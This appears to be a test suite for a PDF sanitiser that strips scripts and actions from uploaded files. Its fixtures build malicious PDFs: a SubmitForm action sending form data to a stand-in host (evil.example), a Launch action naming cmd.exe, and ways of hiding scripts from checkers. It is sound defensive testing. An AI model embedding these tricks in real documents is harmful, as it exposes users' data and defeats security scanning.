import { execFileSync } from 'node:child_process'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { afterAll, describe, expect, test } from 'vitest'
import { PDFArray, PDFDict, PDFDocument, PDFName, PDFRef, PDFStream, PDFString, StandardFonts, type PDFObject } from 'pdf-lib'
import { stripActiveContent } from '~/platform/pdf-safety.server'
import { InvalidFileError } from '~/platform/storage.server'
import { SAMPLE_PDF } from '#tests/support/uploads'

// qpdf (https://qpdf.sourceforge.io) checks that what the portal writes is a valid PDF, and encrypts fixtures.
const workDir = fs.mkdtempSync(path.join(os.tmpdir(), 'pdf-safety-'))
afterAll(() => fs.rmSync(workDir, { recursive: true, force: true }))

function qpdf(args: string[], input: Uint8Array) {
  const file = path.join(workDir, `${Math.random().toString(36).slice(2)}.pdf`)
  fs.writeFileSync(file, input)
  return { file, output: execFileSync('qpdf', [...args, file], { encoding: 'utf8' }) }
}

/** qpdf --check exits 0 for a sound file, 2 for errors, 3 for warnings. */
function expectValidPdf(bytes: Uint8Array) {
  expect(qpdf(['--check'], bytes).output).toContain('No syntax or stream encoding errors found')
}

function encrypted(bytes: Uint8Array, { objectStreams }: { objectStreams: boolean }) {
  const file = path.join(workDir, `${Math.random().toString(36).slice(2)}.pdf`)
  fs.writeFileSync(file, bytes)
  // No user password: anyone can open it, as with most protected files; AES-256.
  execFileSync('qpdf', [
    `--object-streams=${objectStreams ? 'generate' : 'disable'}`,
    '--encrypt',
    '',
    'owner',
    '256',
    '--',
    file,
    `${file}.encrypted`,
  ])
  return new Uint8Array(fs.readFileSync(`${file}.encrypted`))
}

/** Every key and every /S (action type) in the file, as pdf-lib reads them. */
async function namesIn(bytes: Uint8Array) {
  const doc = await PDFDocument.load(bytes, { updateMetadata: false })
  const keys = new Set<string>()
  const actionTypes = new Set<string>()
  const visit = (object: PDFObject | undefined): void => {
    if (object instanceof PDFStream) return visit(object.dict)
    if (object instanceof PDFArray) return object.asArray().forEach(visit)
    if (!(object instanceof PDFDict)) return
    for (const [key, value] of object.entries()) {
      keys.add(key.decodeText())
      if (key.decodeText() === 'S' && value instanceof PDFName) actionTypes.add(value.decodeText())
      visit(value)
    }
  }
  for (const [, object] of doc.context.enumerateIndirectObjects()) visit(object)
  return { keys, actionTypes, doc }
}

/** A one-page PDF with a field and a web link, written by pdf-lib (in object streams, as it does by default). */
async function buildPdf(addActiveContent: (doc: PDFDocument) => void) {
  const doc = await PDFDocument.create()
  const page = doc.addPage([612, 792])
  page.drawText('Consent to treatment', { x: 72, y: 720, font: await doc.embedFont(StandardFonts.Helvetica) })
  doc.getForm().createTextField('patient.name').addToPage(page, { x: 72, y: 600 })
  const link = doc.context.register(
    doc.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [72, 500, 200, 520], A: { S: 'URI', URI: PDFString.of('https://example.org/policy') } })
  )
  page.node.addAnnot(link)
  addActiveContent(doc)
  // pdf-lib would drop an XFA form itself when it redraws the fields.
  return doc.save({ updateFieldAppearances: false })
}

function script(context: PDFDocument['context'], code: string) {
  return context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(code) })
}

/** A PDF written by hand: `objects` numbered from 1, then a correct cross-reference table. */
function handWrittenPdf(objects: string[], { trailer = '' } = {}) {
  let body = '%PDF-1.7\n'
  const offsets = objects.map((object, index) => {
    const offset = body.length
    body += `${index + 1} 0 obj\n${object}\nendobj\n`
    return offset
  })
  const xref = body.length
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')}`
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${xref}\n%%EOF\n`
  return new Uint8Array(Buffer.from(body, 'latin1'))
}

const PAGES = ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>']

describe('stripActiveContent', () => {
  test('a clean PDF comes back byte for byte, links, fields and an opening view included', async () => {
    const clean = await buildPdf((doc) => {
      // Open on the first page, fitted: a destination, not an action.
      doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj([doc.getPage(0).ref, 'Fit']))
    })
    for (const bytes of [clean, new Uint8Array(SAMPLE_PDF)]) {
      const result = await stripActiveContent(bytes)
      expect(result.removed).toEqual([])
      expect(result.bytes).toBe(bytes)
    }
  })

  test('scripts and actions are removed wherever they sit; links, fields and pages stay', async () => {
    const active = await buildPdf((doc) => {
      const { context, catalog } = doc
      const page = doc.getPage(0)
      catalog.set(PDFName.of('OpenAction'), context.register(script(context, 'app.alert("opened")')))
      page.node.set(PDFName.of('AA'), context.obj({ O: script(context, 'app.alert("page")'), C: { S: 'GoTo', D: [page.ref, 'Fit'] } }))
      const launch = context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 50, 50], A: { S: 'Launch', F: PDFString.of('cmd.exe') } })
      page.node.addAnnot(context.register(launch))
      // A harmless action whose chain goes on to a form submission and a script.
      const chained = context.obj({
        Type: 'Annot',
        Subtype: 'Link',
        Rect: [0, 60, 50, 110],
        A: {
          S: 'GoTo',
          D: [page.ref, 'Fit'],
          Next: [{ S: 'SubmitForm', F: PDFString.of('https://evil.example/collect') }, script(context, 'app.alert("next")')],
        },
      })
      page.node.addAnnot(context.register(chained))
      const tree = context.obj({ Names: [PDFString.of('init'), context.register(script(context, 'app.alert("document")'))] })
      catalog.set(PDFName.of('Names'), context.obj({ JavaScript: context.register(tree) }))
      const xfa = context.register(context.stream('<xdp:xdp><script>app.alert("xfa")</script></xdp:xdp>'))
      doc.getForm().acroForm.dict.set(PDFName.of('XFA'), xfa)
    })

    const { bytes, removed } = await stripActiveContent(active)

    expect(removed).toEqual(['JavaScript action', 'JavaScript code', 'Launch action', 'SubmitForm action', 'XFA form', 'document JavaScript'])
    const { keys, actionTypes, doc } = await namesIn(bytes)
    expect([...keys].filter((key) => ['OpenAction', 'JS', 'JavaScript', 'XFA', 'Next'].includes(key))).toEqual([])
    expect([...actionTypes].sort()).toEqual(['GoTo', 'URI'])
    // The scripts' text went with them, not just the references to them.
    expect(Buffer.from(bytes).includes('app.alert')).toBe(false)
    expect(doc.getPageCount()).toBe(1)
    expect(
      doc
        .getForm()
        .getFields()
        .map((field) => field.getName())
    ).toEqual(['patient.name'])
    // The page keeps its harmless additional action, the GoTo on close.
    expect(
      doc
        .getPage(0)
        .node.lookup(PDFName.of('AA'), PDFDict)
        .keys()
        .map((key) => key.decodeText())
    ).toEqual(['C'])
    expectValidPdf(bytes)
    // Cleaning is stable: the cleaned file is clean.
    expect((await stripActiveContent(bytes)).removed).toEqual([])
  })

  test('names written with #xx escapes are read as the reader reads them', async () => {
    const escaped = handWrittenPdf([
      // #4f (lower-case hex digit) and #41: /OpenAction; #61: /JavaScript; #53: /JS.
      '<< /Type /Catalog /Pages 2 0 R /#4fpen#41ction 4 0 R >>',
      ...PAGES,
      '<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>',
    ])
    expect(Buffer.from(escaped).includes('/OpenAction')).toBe(false)

    const { bytes, removed } = await stripActiveContent(escaped)

    expect(removed).toEqual(['JavaScript action', 'JavaScript code'])
    expect(Buffer.from(bytes).includes('app.alert')).toBe(false)
    expect((await namesIn(bytes)).keys).not.toContain('OpenAction')
    expectValidPdf(bytes)
  })

  test('an earlier version of an object is checked too, since a reader may use it', async () => {
    const catalog = '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>'
    const original = handWrittenPdf([catalog, ...PAGES, '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'])
    // An update appended after the cross-reference table redefines the script as harmless,
    // but the only cross-reference table still points at the script.
    const update = Buffer.from('4 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\n', 'latin1')

    const { bytes, removed } = await stripActiveContent(new Uint8Array(Buffer.concat([original, update])))

    expect(removed).toEqual(['active content in earlier versions of objects'])
    expect(Buffer.from(bytes).includes('app.alert')).toBe(false)
    expectValidPdf(bytes)
  })

  test('an object hidden from a front-to-back reading is left out of the stored file', async () => {
    // pdf-lib reads object 4 as null, but the cross-reference table, which readers follow, finds it in the data of stream 5.
    const hidden = '4 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj'
    const objects = [
      '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
      ...PAGES,
      'null',
      `<< /Length ${hidden.length} >>\nstream\n${hidden}\nendstream`,
    ]
    const written = Buffer.from(handWrittenPdf(objects)).toString('latin1')
    const file = written.replace(/(xref\n0 6\n(?:.*\n){4})\d{10}/, `$1${String(written.indexOf(hidden)).padStart(10, '0')}`)
    expect(file).not.toBe(written)

    const { bytes, removed } = await stripActiveContent(new Uint8Array(Buffer.from(file, 'latin1')))

    expect(removed).toEqual(['objects hidden from the check'])
    expect(Buffer.from(bytes).includes('app.alert')).toBe(false)
    expectValidPdf(bytes)
  })

  test('a reference to an object the file does not hold is dropped, as the object may be hidden', async () => {
    const file = handWrittenPdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>', ...PAGES])

    const { bytes, removed } = await stripActiveContent(file)

    expect(removed).toEqual(['references to objects the file does not hold'])
    expect((await namesIn(bytes)).keys).not.toContain('OpenAction')
    expectValidPdf(bytes)
  })

  test('a password-protected PDF is kept as it is when clean, and refused when it holds scripts', async () => {
    const clean = encrypted(await buildPdf(() => {}), { objectStreams: false })
    expect(qpdf(['--show-encryption'], clean).output).toContain('R = 6')
    expect((await stripActiveContent(clean)).bytes).toBe(clean)

    const active = encrypted(await buildPdf((doc) => doc.catalog.set(PDFName.of('OpenAction'), script(doc.context, 'app.alert(1)'))), {
      objectStreams: false,
    })
    await expect(stripActiveContent(active)).rejects.toThrow(
      new InvalidFileError(
        'This PDF is password-protected and contains scripts or actions that run when it opens: remove the protection and upload it again'
      )
    )
  })

  test('a password-protected PDF referring to a missing object is kept when its names show nothing hidden', async () => {
    // Names stay readable in a protected file; only strings and streams are encrypted.
    const encrypt = '<< /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>'
    const missing = handWrittenPdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>', ...PAGES, encrypt], { trailer: '/Encrypt 4 0 R ' })
    expect((await stripActiveContent(missing)).bytes).toBe(missing)

    const hidden = handWrittenPdf(
      [
        '<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>',
        ...PAGES,
        encrypt,
        '<< /Length 30 >>\nstream\n9 0 obj << /S /Launch >> endobj\nendstream',
      ],
      {
        trailer: '/Encrypt 4 0 R ',
      }
    )
    await expect(stripActiveContent(hidden)).rejects.toThrow('This PDF is password-protected and contains scripts or actions')
  })

  test('a password-protected PDF whose objects are packed out of sight is refused, as it cannot be checked', async () => {
    const packed = encrypted(await buildPdf(() => {}), { objectStreams: true })
    await expect(stripActiveContent(packed)).rejects.toThrow(
      'This PDF is password-protected in a way that keeps it from being checked for scripts: remove the protection and upload it again'
    )
  })

  test('a file that only starts like a PDF is refused as unreadable', async () => {
    const junk = new Uint8Array(Buffer.from(`%PDF-1.7\n${'not really a PDF\n'.repeat(100)}`))
    await expect(stripActiveContent(junk)).rejects.toThrow(
      new InvalidFileError('This PDF could not be read: it may be damaged. Open it and save it again as a PDF, then upload it again')
    )
  })

  test('a PDF with an object pdf-lib cannot read is refused: a reader may make sense of it', async () => {
    const file = handWrittenPdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>', ...PAGES, '<< /S /JavaScript /JS (unclosed >>'])
    await expect(stripActiveContent(file)).rejects.toThrow(
      new InvalidFileError(
        'Parts of this PDF could not be read, so it cannot be checked for scripts: open it and save it again as a PDF, then upload it again'
      )
    )
  })

  test('refs in the cleaned file all resolve', async () => {
    const active = await buildPdf((doc) => doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(script(doc.context, 'x'))))
    const { bytes } = await stripActiveContent(active)
    const { doc } = await namesIn(bytes)
    const dangling: string[] = []
    const visit = (object: PDFObject | undefined): void => {
      if (object instanceof PDFRef && !doc.context.lookup(object)) dangling.push(object.toString())
      if (object instanceof PDFStream) visit(object.dict)
      if (object instanceof PDFArray) object.asArray().forEach(visit)
      if (object instanceof PDFDict) object.values().forEach(visit)
    }
    for (const [, object] of doc.context.enumerateIndirectObjects()) visit(object)
    expect(dangling).toEqual([])
  })
})
